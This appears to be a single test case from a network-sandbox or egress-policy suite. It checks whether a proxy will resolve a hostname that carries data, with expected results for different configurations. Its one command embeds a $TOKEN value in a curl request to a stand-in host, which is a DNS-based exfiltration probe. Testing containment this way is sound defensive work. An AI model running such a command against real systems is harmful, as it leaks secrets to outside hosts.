# title: has the proxy look up a name that carries data
# harm: reaches
# egress: public.example:80
# B: no network at all
# C: the proxy looks up only what the list covers
curl -s -m 3 "http://$TOKEN.example/"
